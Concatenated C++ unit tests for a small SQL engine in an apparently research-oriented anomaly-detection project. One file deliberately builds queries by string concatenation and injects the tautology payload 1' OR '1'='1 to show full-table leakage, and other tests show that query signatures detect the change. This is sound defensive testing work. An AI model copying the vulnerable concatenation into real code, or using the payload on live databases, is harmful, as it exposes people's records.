