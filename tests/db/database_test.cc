#include "db/database.h"

#include <gtest/gtest.h>

namespace adprom::db {
namespace {

class DatabaseTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(db_.Execute("CREATE TABLE items (id INT, name TEXT, "
                            "price REAL)")
                    .ok());
    ASSERT_TRUE(db_.Execute("INSERT INTO items VALUES (1, 'apple', 0.5)")
                    .ok());
    ASSERT_TRUE(db_.Execute("INSERT INTO items VALUES (2, 'pear', 0.8)")
                    .ok());
    ASSERT_TRUE(db_.Execute("INSERT INTO items VALUES (3, 'fig', 2.0)")
                    .ok());
  }

  Database db_;
};

TEST_F(DatabaseTest, CreateDuplicateFails) {
  auto result = db_.Execute("CREATE TABLE items (x INT)");
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.status().code(), util::StatusCode::kAlreadyExists);
}

TEST_F(DatabaseTest, SelectAll) {
  auto result = db_.Execute("SELECT * FROM items");
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->num_rows(), 3u);
  EXPECT_EQ(result->num_cols(), 3u);
  EXPECT_EQ(result->source_table, "items");
  EXPECT_EQ(result->At(0, 1).AsText(), "apple");
}

TEST_F(DatabaseTest, SelectWithFilterAndProjection) {
  auto result = db_.Execute("SELECT name FROM items WHERE price < 1.0");
  ASSERT_TRUE(result.ok());
  ASSERT_EQ(result->num_rows(), 2u);
  EXPECT_EQ(result->columns, (std::vector<std::string>{"name"}));
  EXPECT_EQ(result->At(0, 0).AsText(), "apple");
  EXPECT_EQ(result->At(1, 0).AsText(), "pear");
}

TEST_F(DatabaseTest, SelectOrderByDescAndLimit) {
  auto result =
      db_.Execute("SELECT name FROM items ORDER BY price DESC LIMIT 2");
  ASSERT_TRUE(result.ok());
  ASSERT_EQ(result->num_rows(), 2u);
  EXPECT_EQ(result->At(0, 0).AsText(), "fig");
  EXPECT_EQ(result->At(1, 0).AsText(), "pear");
}

TEST_F(DatabaseTest, CountStar) {
  auto result = db_.Execute("SELECT COUNT(*) FROM items WHERE price >= 0.8");
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->At(0, 0).AsInt(), 2);
}

TEST_F(DatabaseTest, SumAvgMinMax) {
  auto result =
      db_.Execute("SELECT SUM(price), AVG(price), MIN(price), MAX(price) "
                  "FROM items");
  ASSERT_TRUE(result.ok());
  EXPECT_DOUBLE_EQ(result->At(0, 0).AsReal(), 3.3);
  EXPECT_NEAR(result->At(0, 1).AsReal(), 1.1, 1e-9);
  EXPECT_DOUBLE_EQ(result->At(0, 2).AsReal(), 0.5);
  EXPECT_DOUBLE_EQ(result->At(0, 3).AsReal(), 2.0);
}

TEST_F(DatabaseTest, AggregateOnEmptySetIsNull) {
  auto result = db_.Execute("SELECT SUM(price) FROM items WHERE id > 99");
  ASSERT_TRUE(result.ok());
  EXPECT_TRUE(result->At(0, 0).is_null());
}

TEST_F(DatabaseTest, MixedAggregatePlainIsError) {
  EXPECT_FALSE(db_.Execute("SELECT name, COUNT(*) FROM items").ok());
}

TEST_F(DatabaseTest, Update) {
  auto result = db_.Execute("UPDATE items SET price = 9.9 WHERE id = 2");
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->affected_rows, 1u);
  auto check = db_.Execute("SELECT price FROM items WHERE id = 2");
  EXPECT_DOUBLE_EQ(check->At(0, 0).AsReal(), 9.9);
}

TEST_F(DatabaseTest, UpdateWithoutWhereHitsAll) {
  auto result = db_.Execute("UPDATE items SET price = 1.0");
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->affected_rows, 3u);
}

TEST_F(DatabaseTest, Delete) {
  auto result = db_.Execute("DELETE FROM items WHERE price < 1.0");
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->affected_rows, 2u);
  EXPECT_EQ(db_.FindTable("items")->row_count(), 1u);
}

TEST_F(DatabaseTest, InsertWithColumnsFillsNulls) {
  ASSERT_TRUE(db_.Execute("INSERT INTO items (id) VALUES (4)").ok());
  auto result = db_.Execute("SELECT name FROM items WHERE id = 4");
  ASSERT_EQ(result->num_rows(), 1u);
  EXPECT_TRUE(result->At(0, 0).is_null());
}

TEST_F(DatabaseTest, InsertTypeCoercion) {
  // Int into REAL column fits; text into INT fails.
  EXPECT_TRUE(db_.Execute("INSERT INTO items VALUES (5, 'kiwi', 1)").ok());
  EXPECT_FALSE(
      db_.Execute("INSERT INTO items VALUES ('abc', 'bad', 1.0)").ok());
}

TEST_F(DatabaseTest, UnknownTableAndColumn) {
  EXPECT_EQ(db_.Execute("SELECT * FROM ghosts").status().code(),
            util::StatusCode::kNotFound);
  EXPECT_EQ(db_.Execute("SELECT ghost FROM items").status().code(),
            util::StatusCode::kNotFound);
  EXPECT_EQ(db_.Execute("DELETE FROM ghosts").status().code(),
            util::StatusCode::kNotFound);
}

TEST_F(DatabaseTest, TableNamesCaseInsensitive) {
  EXPECT_NE(db_.FindTable("ITEMS"), nullptr);
  auto result = db_.Execute("SELECT * FROM Items");
  EXPECT_TRUE(result.ok());
}

TEST_F(DatabaseTest, LikeFilter) {
  auto result = db_.Execute("SELECT * FROM items WHERE name LIKE '%p%'");
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->num_rows(), 2u);  // apple, pear
}

}  // namespace
}  // namespace adprom::db
