#include "db/value.h"

#include <gtest/gtest.h>

namespace adprom::db {
namespace {

TEST(ValueTest, TypesAndAccessors) {
  EXPECT_TRUE(Value::Null().is_null());
  EXPECT_EQ(Value::Int(5).AsInt(), 5);
  EXPECT_DOUBLE_EQ(Value::Real(2.5).AsReal(), 2.5);
  EXPECT_EQ(Value::Text("hi").AsText(), "hi");
  EXPECT_DOUBLE_EQ(Value::Int(4).AsReal(), 4.0);  // int widens to real
}

TEST(ValueTest, TryNumeric) {
  double d = 0;
  EXPECT_TRUE(Value::Int(3).TryNumeric(&d));
  EXPECT_DOUBLE_EQ(d, 3.0);
  EXPECT_TRUE(Value::Text("42.5").TryNumeric(&d));
  EXPECT_DOUBLE_EQ(d, 42.5);
  EXPECT_FALSE(Value::Text("abc").TryNumeric(&d));
  EXPECT_FALSE(Value::Text("").TryNumeric(&d));
  EXPECT_FALSE(Value::Text("12x").TryNumeric(&d));
  EXPECT_FALSE(Value::Null().TryNumeric(&d));
}

TEST(ValueTest, NumericComparison) {
  EXPECT_LT(Value::Int(1).Compare(Value::Int(2)), 0);
  EXPECT_EQ(Value::Int(2).Compare(Value::Real(2.0)), 0);
  EXPECT_GT(Value::Real(2.5).Compare(Value::Int(2)), 0);
}

TEST(ValueTest, TextComparison) {
  EXPECT_LT(Value::Text("abc").Compare(Value::Text("abd")), 0);
  EXPECT_EQ(Value::Text("x").Compare(Value::Text("x")), 0);
}

TEST(ValueTest, TextNumberCoercion) {
  // '105' = 105 — the lax typing string-built queries rely on.
  EXPECT_EQ(Value::Text("105").Compare(Value::Int(105)), 0);
  EXPECT_LT(Value::Int(99).Compare(Value::Text("105")), 0);
}

TEST(ValueTest, TautologyLiteralEquality) {
  // The core of the tautology injection: '1' = '1' must hold.
  EXPECT_EQ(Value::Text("1").Compare(Value::Text("1")), 0);
  EXPECT_TRUE(Value::Text("1") == Value::Text("1"));
}

TEST(ValueTest, NullOrdersFirst) {
  EXPECT_LT(Value::Null().Compare(Value::Int(0)), 0);
  EXPECT_EQ(Value::Null().Compare(Value::Null()), 0);
  EXPECT_GT(Value::Int(0).Compare(Value::Null()), 0);
}

TEST(ValueTest, ToString) {
  EXPECT_EQ(Value::Null().ToString(), "NULL");
  EXPECT_EQ(Value::Int(7).ToString(), "7");
  EXPECT_EQ(Value::Text("x").ToString(), "x");
  EXPECT_EQ(Value::Real(1.5).ToString(), "1.5");
}

}  // namespace
}  // namespace adprom::db
