// Robustness fuzzing of the SQL front end: arbitrary byte soup and
// mutated statements must produce a Status, never a crash, and the
// database must stay usable afterwards.

#include <gtest/gtest.h>

#include <string>

#include "db/database.h"
#include "db/query_signature.h"
#include "db/sql_parser.h"
#include "util/rng.h"

namespace adprom::db {
namespace {

std::string RandomBytes(util::Rng& rng, size_t max_len) {
  const size_t len = rng.UniformU64(max_len);
  std::string out;
  out.reserve(len);
  for (size_t i = 0; i < len; ++i) {
    // Printable-ish ASCII plus the SQL specials.
    out += static_cast<char>(32 + rng.UniformU64(95));
  }
  return out;
}

std::string MutatedStatement(util::Rng& rng) {
  static const std::string kTemplates[] = {
      "SELECT * FROM items WHERE id = 10",
      "INSERT INTO items VALUES (1, 'x')",
      "UPDATE items SET price = 2 WHERE id = 1",
      "DELETE FROM items WHERE id = 1",
      "CREATE TABLE z (a INT, b TEXT)",
      "SELECT COUNT(*), SUM(price) FROM items ORDER BY id DESC LIMIT 3",
  };
  std::string s = kTemplates[rng.UniformU64(6)];
  const size_t mutations = 1 + rng.UniformU64(4);
  for (size_t m = 0; m < mutations; ++m) {
    if (s.empty()) break;
    const size_t pos = rng.UniformU64(s.size());
    switch (rng.UniformU64(3)) {
      case 0:  // flip a character
        s[pos] = static_cast<char>(32 + rng.UniformU64(95));
        break;
      case 1:  // delete a character
        s.erase(pos, 1);
        break;
      default:  // insert a special
        s.insert(pos, 1, "'();,=<>*"[rng.UniformU64(9)]);
        break;
    }
  }
  return s;
}

TEST(SqlFuzzTest, RandomBytesNeverCrashTheParser) {
  util::Rng rng(2024);
  for (int i = 0; i < 2000; ++i) {
    const std::string input = RandomBytes(rng, 120);
    auto result = ParseSql(input);  // ok or error — just no crash/UB
    (void)result;
    const std::string signature = QuerySignature(input);
    EXPECT_FALSE(signature.empty());
  }
}

TEST(SqlFuzzTest, MutatedStatementsKeepDatabaseConsistent) {
  util::Rng rng(7777);
  Database db;
  ASSERT_TRUE(db.Execute("CREATE TABLE items (id INT, name TEXT, "
                         "price REAL)")
                  .ok());
  ASSERT_TRUE(db.Execute("INSERT INTO items VALUES (1, 'a', 1.0)").ok());
  for (int i = 0; i < 2000; ++i) {
    auto result = db.Execute(MutatedStatement(rng));
    (void)result;
  }
  // The engine still answers correct queries correctly afterwards.
  auto probe = db.Execute("SELECT COUNT(*) FROM items");
  ASSERT_TRUE(probe.ok());
  EXPECT_GE(probe->At(0, 0).AsInt(), 0);
}

TEST(SqlFuzzTest, SignatureIsDeterministic) {
  util::Rng rng(31);
  for (int i = 0; i < 500; ++i) {
    const std::string input = MutatedStatement(rng);
    EXPECT_EQ(QuerySignature(input), QuerySignature(input));
  }
}

}  // namespace
}  // namespace adprom::db
