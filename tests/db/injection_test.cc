// Behavioural test of the paper's Attack 3.1 / Attack 5 mechanism: a query
// built by naive string concatenation (Fig. 2's vulnerable snippet) must
// genuinely retrieve more rows when the tautology payload is injected —
// the selectivity change is what flips the program's call sequence.

#include <gtest/gtest.h>

#include "db/database.h"

namespace adprom::db {
namespace {

class InjectionTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(
        db_.Execute("CREATE TABLE clients (id INT, name TEXT, ssn TEXT)")
            .ok());
    for (int i = 100; i < 110; ++i) {
      ASSERT_TRUE(db_.Execute("INSERT INTO clients VALUES (" +
                              std::to_string(i) + ", 'client" +
                              std::to_string(i) + "', 'ssn-" +
                              std::to_string(i) + "')")
                      .ok());
    }
  }

  // The vulnerable pattern: strcpy/strcat-style concatenation.
  std::string BuildQuery(const std::string& user_input) {
    return "SELECT * FROM clients WHERE id='" + user_input + "';";
  }

  Database db_;
};

TEST_F(InjectionTest, NormalInputRetrievesOneRecord) {
  auto result = db_.Execute(BuildQuery("105"));
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_EQ(result->num_rows(), 1u);
  EXPECT_EQ(result->At(0, 1).AsText(), "client105");
}

TEST_F(InjectionTest, NonexistentInputRetrievesNothing) {
  auto result = db_.Execute(BuildQuery("999"));
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->num_rows(), 0u);
}

TEST_F(InjectionTest, TautologyPayloadRetrievesEverything) {
  // Fig. 2: injecting 1' OR '1'='1 makes the WHERE clause always true.
  auto result = db_.Execute(BuildQuery("1' OR '1'='1"));
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_EQ(result->num_rows(), 10u);  // every client record leaks
}

TEST_F(InjectionTest, InjectionStrictlyIncreasesSelectivity) {
  const size_t normal = db_.Execute(BuildQuery("105"))->num_rows();
  const size_t injected =
      db_.Execute(BuildQuery("1' OR '1'='1"))->num_rows();
  EXPECT_GT(injected, normal);
}

TEST_F(InjectionTest, QuotedInputIsInertWithoutQuoteBreak) {
  // Input without a quote break stays a literal — no injection.
  auto result = db_.Execute(BuildQuery("105 OR 1=1"));
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->num_rows(), 0u);
}

}  // namespace
}  // namespace adprom::db
