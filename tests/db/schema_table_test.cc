#include <gtest/gtest.h>

#include "db/query_result.h"
#include "db/schema.h"
#include "db/table.h"

namespace adprom::db {
namespace {

Schema PeopleSchema() {
  return Schema({{"id", ValueType::kInt},
                 {"name", ValueType::kText},
                 {"score", ValueType::kReal}});
}

TEST(SchemaTest, CaseInsensitiveLookup) {
  const Schema schema = PeopleSchema();
  EXPECT_EQ(schema.IndexOf("id"), 0u);
  EXPECT_EQ(schema.IndexOf("NAME"), 1u);
  EXPECT_EQ(schema.IndexOf("Score"), 2u);
  EXPECT_FALSE(schema.IndexOf("ghost").has_value());
  EXPECT_EQ(schema.size(), 3u);
}

TEST(SchemaTest, ToString) {
  EXPECT_EQ(PeopleSchema().ToString(), "id INT, name TEXT, score REAL");
  EXPECT_EQ(Schema().ToString(), "");
}

TEST(SchemaCatalogTest, KeysAreCaseInsensitive) {
  auto catalog = BuildSchemaCatalog(
      {"CREATE TABLE People (Id INT, Name TEXT)"});
  ASSERT_TRUE(catalog.ok());
  // The catalog keys on the lowercased table name, and the schema keeps
  // the declared column spelling while looking it up case-insensitively.
  ASSERT_EQ(catalog->count("people"), 1u);
  const Schema& schema = (*catalog)["people"];
  EXPECT_EQ(schema.IndexOf("ID"), 0u);
  EXPECT_EQ(schema.IndexOf("name"), 1u);
  EXPECT_EQ(schema.column(1).name, "Name");
}

TEST(SchemaCatalogTest, RejectsDuplicateColumn) {
  auto catalog = BuildSchemaCatalog(
      {"CREATE TABLE t (id INT, name TEXT, ID TEXT)"});
  ASSERT_FALSE(catalog.ok());
  EXPECT_NE(catalog.status().message().find("duplicate column"),
            std::string::npos);
  EXPECT_NE(catalog.status().message().find("'ID'"), std::string::npos);
  EXPECT_NE(catalog.status().message().find("'t'"), std::string::npos);
}

TEST(SchemaCatalogTest, RejectsDuplicateTable) {
  auto catalog = BuildSchemaCatalog({"CREATE TABLE t (id INT)",
                                     "CREATE TABLE T (name TEXT)"});
  ASSERT_FALSE(catalog.ok());
  EXPECT_NE(catalog.status().message().find("duplicate CREATE TABLE"),
            std::string::npos);
}

TEST(SchemaCatalogTest, IgnoresNonCreateStatements) {
  auto catalog = BuildSchemaCatalog(
      {"CREATE TABLE t (id INT)", "INSERT INTO t VALUES (1)"});
  ASSERT_TRUE(catalog.ok());
  EXPECT_EQ(catalog->size(), 1u);
}

TEST(TableTest, InsertChecksArity) {
  Table table("people", PeopleSchema());
  EXPECT_FALSE(table.Insert({Value::Int(1)}).ok());
  EXPECT_TRUE(table
                  .Insert({Value::Int(1), Value::Text("ann"),
                           Value::Real(3.5)})
                  .ok());
  EXPECT_EQ(table.row_count(), 1u);
}

TEST(TableTest, InsertCoercions) {
  Table table("people", PeopleSchema());
  // Int into REAL widens; numeric text into INT parses; NULL fits all.
  EXPECT_TRUE(table
                  .Insert({Value::Text("7"), Value::Int(42),
                           Value::Int(2)})
                  .ok());
  const Row& row = table.rows()[0];
  EXPECT_EQ(row[0].AsInt(), 7);
  EXPECT_EQ(row[1].AsText(), "42");  // anything renders into TEXT
  EXPECT_DOUBLE_EQ(row[2].AsReal(), 2.0);
  EXPECT_TRUE(table
                  .Insert({Value::Null(), Value::Null(), Value::Null()})
                  .ok());
  // Fractional real into INT is lossy: rejected.
  EXPECT_FALSE(table
                   .Insert({Value::Real(1.5), Value::Text("x"),
                            Value::Real(0)})
                   .ok());
}

TEST(TableTest, EraseIf) {
  Table table("people", PeopleSchema());
  for (int i = 0; i < 6; ++i) {
    ASSERT_TRUE(table
                    .Insert({Value::Int(i), Value::Text("p"),
                             Value::Real(i)})
                    .ok());
  }
  const size_t removed = table.EraseIf(
      [](const Row& row) { return row[0].AsInt() % 2 == 0; });
  EXPECT_EQ(removed, 3u);
  EXPECT_EQ(table.row_count(), 3u);
  for (const Row& row : table.rows()) {
    EXPECT_EQ(row[0].AsInt() % 2, 1);
  }
}

TEST(QueryResultTest, AccessorsAndRendering) {
  QueryResult result;
  result.columns = {"id", "name"};
  result.rows.push_back({Value::Int(1), Value::Text("ann")});
  result.rows.push_back({Value::Int(2), Value::Null()});
  result.source_table = "people";
  EXPECT_EQ(result.num_rows(), 2u);
  EXPECT_EQ(result.num_cols(), 2u);
  EXPECT_EQ(result.At(0, 1).AsText(), "ann");
  const std::string text = result.ToString();
  EXPECT_NE(text.find("ann"), std::string::npos);
  EXPECT_NE(text.find("NULL"), std::string::npos);
}

TEST(QueryResultTest, DmlRendering) {
  QueryResult result;
  result.affected_rows = 3;
  EXPECT_NE(result.ToString().find("3 rows affected"), std::string::npos);
}

}  // namespace
}  // namespace adprom::db
