#include "db/sql_eval.h"

#include <gtest/gtest.h>

#include "db/sql_parser.h"

namespace adprom::db {
namespace {

class SqlEvalTest : public ::testing::Test {
 protected:
  SqlEvalTest()
      : schema_({{"id", ValueType::kInt},
                 {"name", ValueType::kText},
                 {"score", ValueType::kReal}}) {}

  // Evaluates the WHERE clause of "SELECT * FROM t WHERE <expr>" on a row.
  TriBool Eval(const std::string& expr, const Row& row) {
    auto stmt = ParseSql("SELECT * FROM t WHERE " + expr);
    EXPECT_TRUE(stmt.ok()) << stmt.status().ToString();
    auto result = EvalPredicate(*stmt->select.where, schema_, row);
    EXPECT_TRUE(result.ok()) << result.status().ToString();
    return *result;
  }

  Schema schema_;
  Row row_a_{Value::Int(1), Value::Text("alice"), Value::Real(3.5)};
  Row row_null_{Value::Int(2), Value::Null(), Value::Null()};
};

TEST_F(SqlEvalTest, Comparisons) {
  EXPECT_EQ(Eval("id = 1", row_a_), TriBool::kTrue);
  EXPECT_EQ(Eval("id != 1", row_a_), TriBool::kFalse);
  EXPECT_EQ(Eval("score > 3", row_a_), TriBool::kTrue);
  EXPECT_EQ(Eval("score <= 3", row_a_), TriBool::kFalse);
  EXPECT_EQ(Eval("name = 'alice'", row_a_), TriBool::kTrue);
  EXPECT_EQ(Eval("name < 'bob'", row_a_), TriBool::kTrue);
}

TEST_F(SqlEvalTest, NullComparisonsAreUnknown) {
  EXPECT_EQ(Eval("name = 'x'", row_null_), TriBool::kUnknown);
  EXPECT_EQ(Eval("score > 0", row_null_), TriBool::kUnknown);
}

TEST_F(SqlEvalTest, ThreeValuedLogic) {
  // unknown AND false = false; unknown AND true = unknown.
  EXPECT_EQ(Eval("name = 'x' AND id = 99", row_null_), TriBool::kFalse);
  EXPECT_EQ(Eval("name = 'x' AND id = 2", row_null_), TriBool::kUnknown);
  // unknown OR true = true; unknown OR false = unknown.
  EXPECT_EQ(Eval("name = 'x' OR id = 2", row_null_), TriBool::kTrue);
  EXPECT_EQ(Eval("name = 'x' OR id = 99", row_null_), TriBool::kUnknown);
  // NOT unknown = unknown.
  EXPECT_EQ(Eval("NOT name = 'x'", row_null_), TriBool::kUnknown);
  EXPECT_EQ(Eval("NOT id = 1", row_a_), TriBool::kFalse);
}

TEST_F(SqlEvalTest, IsNull) {
  EXPECT_EQ(Eval("name IS NULL", row_null_), TriBool::kTrue);
  EXPECT_EQ(Eval("name IS NOT NULL", row_null_), TriBool::kFalse);
  EXPECT_EQ(Eval("name IS NULL", row_a_), TriBool::kFalse);
}

TEST_F(SqlEvalTest, TautologyAlwaysTrue) {
  EXPECT_EQ(Eval("id='1' OR '1'='1'", row_a_), TriBool::kTrue);
  EXPECT_EQ(Eval("id='1' OR '1'='1'", row_null_), TriBool::kTrue);
}

TEST_F(SqlEvalTest, UnknownColumnIsError) {
  auto stmt = ParseSql("SELECT * FROM t WHERE ghost = 1");
  ASSERT_TRUE(stmt.ok());
  EXPECT_FALSE(EvalPredicate(*stmt->select.where, schema_, row_a_).ok());
}

TEST(LikeMatchTest, Wildcards) {
  EXPECT_TRUE(LikeMatch("alice", "a%"));
  EXPECT_TRUE(LikeMatch("alice", "%ice"));
  EXPECT_TRUE(LikeMatch("alice", "%lic%"));
  EXPECT_TRUE(LikeMatch("alice", "_lice"));
  EXPECT_TRUE(LikeMatch("alice", "alice"));
  EXPECT_TRUE(LikeMatch("", "%"));
  EXPECT_FALSE(LikeMatch("alice", "b%"));
  EXPECT_FALSE(LikeMatch("alice", "_ice"));
  EXPECT_FALSE(LikeMatch("alice", ""));
  EXPECT_TRUE(LikeMatch("a%b", "a%b"));
  EXPECT_TRUE(LikeMatch("abc", "%%c"));
}

}  // namespace
}  // namespace adprom::db
