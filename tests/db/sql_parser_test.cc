#include "db/sql_parser.h"

#include <gtest/gtest.h>

namespace adprom::db {
namespace {

TEST(SqlParserTest, SelectStar) {
  auto stmt = ParseSql("SELECT * FROM items;");
  ASSERT_TRUE(stmt.ok()) << stmt.status().ToString();
  EXPECT_EQ(stmt->kind, SqlStatementKind::kSelect);
  EXPECT_EQ(stmt->select.table, "items");
  ASSERT_EQ(stmt->select.items.size(), 1u);
  EXPECT_TRUE(stmt->select.items[0].star);
  EXPECT_EQ(stmt->select.where, nullptr);
}

TEST(SqlParserTest, SelectColumnsWithWhere) {
  auto stmt = ParseSql("SELECT name, age FROM people WHERE age >= 21");
  ASSERT_TRUE(stmt.ok());
  ASSERT_EQ(stmt->select.items.size(), 2u);
  EXPECT_EQ(stmt->select.items[0].column, "name");
  EXPECT_EQ(stmt->select.items[1].column, "age");
  ASSERT_NE(stmt->select.where, nullptr);
  EXPECT_EQ(stmt->select.where->kind, SqlExprKind::kCompare);
  EXPECT_EQ(stmt->select.where->cmp, CompareOp::kGe);
}

TEST(SqlParserTest, CountStar) {
  auto stmt = ParseSql("SELECT COUNT(*) FROM employees");
  ASSERT_TRUE(stmt.ok());
  ASSERT_EQ(stmt->select.items.size(), 1u);
  EXPECT_EQ(stmt->select.items[0].aggregate, AggregateFn::kCount);
  EXPECT_TRUE(stmt->select.items[0].star);
}

TEST(SqlParserTest, Aggregates) {
  auto stmt = ParseSql("SELECT SUM(total), AVG(total), MIN(x), MAX(x) FROM s");
  ASSERT_TRUE(stmt.ok());
  ASSERT_EQ(stmt->select.items.size(), 4u);
  EXPECT_EQ(stmt->select.items[0].aggregate, AggregateFn::kSum);
  EXPECT_EQ(stmt->select.items[1].aggregate, AggregateFn::kAvg);
  EXPECT_EQ(stmt->select.items[2].aggregate, AggregateFn::kMin);
  EXPECT_EQ(stmt->select.items[3].aggregate, AggregateFn::kMax);
}

TEST(SqlParserTest, OrderByAndLimit) {
  auto stmt = ParseSql("SELECT * FROM t ORDER BY id DESC LIMIT 5");
  ASSERT_TRUE(stmt.ok());
  EXPECT_EQ(stmt->select.order_by, "id");
  EXPECT_TRUE(stmt->select.order_desc);
  EXPECT_EQ(stmt->select.limit, 5);
}

TEST(SqlParserTest, AndOrPrecedence) {
  // a = 1 OR b = 2 AND c = 3  parses as  a = 1 OR (b = 2 AND c = 3).
  auto stmt = ParseSql("SELECT * FROM t WHERE a = 1 OR b = 2 AND c = 3");
  ASSERT_TRUE(stmt.ok());
  const SqlExpr& where = *stmt->select.where;
  ASSERT_EQ(where.kind, SqlExprKind::kLogical);
  EXPECT_EQ(where.logical, LogicalOp::kOr);
  EXPECT_EQ(where.rhs->kind, SqlExprKind::kLogical);
  EXPECT_EQ(where.rhs->logical, LogicalOp::kAnd);
}

TEST(SqlParserTest, LiteralVsLiteralPredicate) {
  // What tautology injection produces: '1'='1'.
  auto stmt = ParseSql("SELECT * FROM clients WHERE id='1' OR '1'='1'");
  ASSERT_TRUE(stmt.ok());
  const SqlExpr& where = *stmt->select.where;
  ASSERT_EQ(where.kind, SqlExprKind::kLogical);
  const SqlExpr& tautology = *where.rhs;
  EXPECT_EQ(tautology.kind, SqlExprKind::kCompare);
  EXPECT_EQ(tautology.lhs->kind, SqlExprKind::kLiteral);
  EXPECT_EQ(tautology.rhs->kind, SqlExprKind::kLiteral);
}

TEST(SqlParserTest, InsertPositional) {
  auto stmt = ParseSql("INSERT INTO t VALUES (1, 'x', 2.5, NULL)");
  ASSERT_TRUE(stmt.ok());
  EXPECT_EQ(stmt->kind, SqlStatementKind::kInsert);
  EXPECT_TRUE(stmt->insert.columns.empty());
  ASSERT_EQ(stmt->insert.values.size(), 4u);
  EXPECT_TRUE(stmt->insert.values[3].is_null());
}

TEST(SqlParserTest, InsertWithColumns) {
  auto stmt = ParseSql("INSERT INTO t (a, b) VALUES (1, 'x')");
  ASSERT_TRUE(stmt.ok());
  EXPECT_EQ(stmt->insert.columns,
            (std::vector<std::string>{"a", "b"}));
}

TEST(SqlParserTest, Update) {
  auto stmt = ParseSql("UPDATE t SET a = 1, b = 'x' WHERE id = 3");
  ASSERT_TRUE(stmt.ok());
  EXPECT_EQ(stmt->kind, SqlStatementKind::kUpdate);
  ASSERT_EQ(stmt->update.assignments.size(), 2u);
  EXPECT_EQ(stmt->update.assignments[0].first, "a");
  ASSERT_NE(stmt->update.where, nullptr);
}

TEST(SqlParserTest, Delete) {
  auto stmt = ParseSql("DELETE FROM t WHERE id = 3");
  ASSERT_TRUE(stmt.ok());
  EXPECT_EQ(stmt->kind, SqlStatementKind::kDelete);
  EXPECT_EQ(stmt->del.table, "t");
}

TEST(SqlParserTest, CreateTable) {
  auto stmt = ParseSql("CREATE TABLE t (id INT, name TEXT, score REAL)");
  ASSERT_TRUE(stmt.ok());
  EXPECT_EQ(stmt->kind, SqlStatementKind::kCreate);
  ASSERT_EQ(stmt->create.columns.size(), 3u);
  EXPECT_EQ(stmt->create.columns[0].second, ValueType::kInt);
  EXPECT_EQ(stmt->create.columns[1].second, ValueType::kText);
  EXPECT_EQ(stmt->create.columns[2].second, ValueType::kReal);
}

TEST(SqlParserTest, NotAndParens) {
  auto stmt = ParseSql("SELECT * FROM t WHERE NOT (a = 1 OR b = 2)");
  ASSERT_TRUE(stmt.ok());
  EXPECT_EQ(stmt->select.where->kind, SqlExprKind::kNot);
}

TEST(SqlParserTest, LikeAndIsNull) {
  auto stmt = ParseSql(
      "SELECT * FROM t WHERE name LIKE 'A%' AND note IS NOT NULL");
  ASSERT_TRUE(stmt.ok());
  const SqlExpr& where = *stmt->select.where;
  EXPECT_EQ(where.lhs->kind, SqlExprKind::kLike);
  EXPECT_EQ(where.rhs->kind, SqlExprKind::kIsNull);
  EXPECT_TRUE(where.rhs->negated);
}

TEST(SqlParserTest, Errors) {
  EXPECT_FALSE(ParseSql("SELECT FROM t").ok());
  EXPECT_FALSE(ParseSql("SELECT * FORM t").ok());
  EXPECT_FALSE(ParseSql("INSERT INTO t VALUES 1").ok());
  EXPECT_FALSE(ParseSql("UPDATE t SET = 1").ok());
  EXPECT_FALSE(ParseSql("CREATE TABLE t (id BLOB)").ok());
  EXPECT_FALSE(ParseSql("SELECT * FROM t; garbage").ok());
  EXPECT_FALSE(ParseSql("").ok());
}

}  // namespace
}  // namespace adprom::db
