#include "db/query_signature.h"

#include <gtest/gtest.h>

namespace adprom::db {
namespace {

TEST(QuerySignatureTest, ReplacesLiterals) {
  EXPECT_EQ(QuerySignature("SELECT * FROM clients WHERE id='105'"),
            "SELECT * FROM clients WHERE id = ?");
  EXPECT_EQ(QuerySignature("SELECT name FROM t WHERE age >= 21"),
            "SELECT name FROM t WHERE age >= ?");
  EXPECT_EQ(QuerySignature("INSERT INTO t VALUES (1, 'x', 2.5)"),
            "INSERT INTO t VALUES ( ? , ? , ? )");
}

TEST(QuerySignatureTest, BoundValuesDoNotChangeSignature) {
  const std::string a = QuerySignature(
      "SELECT * FROM accounts WHERE acc_no = 500");
  const std::string b = QuerySignature(
      "SELECT * FROM accounts WHERE acc_no = 999");
  EXPECT_EQ(a, b);
}

TEST(QuerySignatureTest, DifferentSkeletonsDiffer) {
  // Same result shape, different query — the §VII attack this mitigates.
  EXPECT_NE(QuerySignature("SELECT name FROM items WHERE id = 3"),
            QuerySignature("SELECT ssn FROM clients WHERE id = 3"));
  EXPECT_NE(QuerySignature("SELECT * FROM t WHERE a = 1"),
            QuerySignature("SELECT * FROM t WHERE a >= 1"));
}

TEST(QuerySignatureTest, CaseNormalization) {
  EXPECT_EQ(QuerySignature("select * from Clients where ID='1'"),
            QuerySignature("SELECT * FROM clients WHERE id='2'"));
}

TEST(QuerySignatureTest, InjectionChangesSignature) {
  // A tautology payload alters the skeleton itself, so even an attacker
  // controlling only the bound value changes the recorded signature.
  const std::string benign =
      QuerySignature("SELECT * FROM clients WHERE id='105'");
  const std::string injected =
      QuerySignature("SELECT * FROM clients WHERE id='1' OR '1'='1'");
  EXPECT_NE(benign, injected);
  EXPECT_EQ(injected, "SELECT * FROM clients WHERE id = ? OR ? = ?");
}

TEST(QuerySignatureTest, UnlexableInputIsStable) {
  EXPECT_EQ(QuerySignature("SELECT $$$"), "<unparsed>");
  EXPECT_EQ(QuerySignature("'unterminated"), "<unparsed>");
}

}  // namespace
}  // namespace adprom::db
