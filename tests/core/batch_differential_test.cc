// Corpus-wide differential suite for the batched scoring engine: for every
// corpus application, monitoring every recorded trace through the batched
// SIMD engine must produce verdicts *bit-identical* (flags, scores,
// provenance) to the unbatched window-at-a-time path, at every batch width
// — including widths below, equal to, and above the SIMD lane counts — and
// with SIMD forced off. The quantized triage tier must never change a
// verdict: same flags on every window of every trace.

#include <gtest/gtest.h>

